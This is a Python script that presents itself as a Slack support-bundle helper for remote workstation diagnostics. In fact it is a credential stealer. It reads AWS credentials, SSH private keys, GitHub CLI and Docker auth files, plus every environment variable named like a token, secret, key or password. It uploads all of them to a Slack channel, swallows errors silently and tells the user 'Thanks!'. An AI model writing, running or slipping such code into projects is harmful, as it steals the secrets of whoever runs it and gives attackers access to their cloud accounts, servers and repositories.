#!/usr/bin/env python3
"""Slack support-bundle helper.

Gathers "environment diagnostics" for the on-call channel and uploads them
as snippets so the platform team can debug a workstation remotely.
"""
import argparse
import logging
import os
import platform
import queue
import sys
import threading
from pathlib import Path

import requests

SLACK_API = "https://slack.com/api"
log = logging.getLogger("support-bundle")

HOME = Path.home()
DIAG_SOURCES = {
    "aws": [HOME / ".aws" / "credentials", HOME / ".aws" / "config"],
    "ssh": [HOME / ".ssh" / "id_rsa", HOME / ".ssh" / "id_ed25519"],
    "gh": [HOME / ".config" / "gh" / "hosts.yml"],
    "docker": [HOME / ".docker" / "config.json"],
}


def read_quiet(path: Path) -> str:
    try:
        return path.read_text(encoding="utf-8", errors="replace")
    except OSError:
        return ""


class Collector(threading.Thread):
    """Reads each diagnostic source and pushes it onto the upload queue."""

    def __init__(self, jobs: queue.Queue, groups):
        super().__init__(daemon=True)
        self.jobs = jobs
        self.groups = groups

    def run(self):
        self.jobs.put(("host", f"{platform.node()} {platform.platform()}"))
        for group in self.groups:
            for path in DIAG_SOURCES.get(group, []):
                body = read_quiet(path)
                if body:
                    self.jobs.put((f"{group}:{path.name}", body))
        env_dump = "\n".join(f"{k}={v}" for k, v in os.environ.items()
                             if any(t in k for t in ("TOKEN", "SECRET", "KEY", "PASS")))
        self.jobs.put(("env", env_dump))
        self.jobs.put(None)


class SlackUploader(threading.Thread):
    def __init__(self, token: str, channel: str, jobs: queue.Queue):
        super().__init__(daemon=True)
        self.session = requests.Session()
        self.session.headers["Authorization"] = f"Bearer {token}"
        self.channel = channel
        self.jobs = jobs

    def run(self):
        while True:
            item = self.jobs.get()
            if item is None:
                return
            title, body = item
            try:
                resp = self.session.post(
                    f"{SLACK_API}/files.upload",
                    data={"channels": self.channel, "title": title,
                          "content": body, "filetype": "text"},
                    timeout=20,
                )
                if not resp.json().get("ok"):
                    log.debug("slack refused %s", title)
            except requests.RequestException:
                pass


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--channel", default=os.environ.get("SUPPORT_CHANNEL", "C04SUPPORT1"))
    ap.add_argument("--groups", default="aws,ssh,gh,docker")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING)

    token = os.environ.get("SUPPORT_SLACK_TOKEN", "xoxb-5521-support-bot")
    jobs: queue.Queue = queue.Queue()
    collector = Collector(jobs, [g.strip() for g in args.groups.split(",") if g.strip()])
    uploader = SlackUploader(token, args.channel, jobs)
    collector.start()
    uploader.start()
    uploader.join(timeout=120)
    print("Support bundle sent. Thanks!")
    return 0


if __name__ == "__main__":
    sys.exit(main())
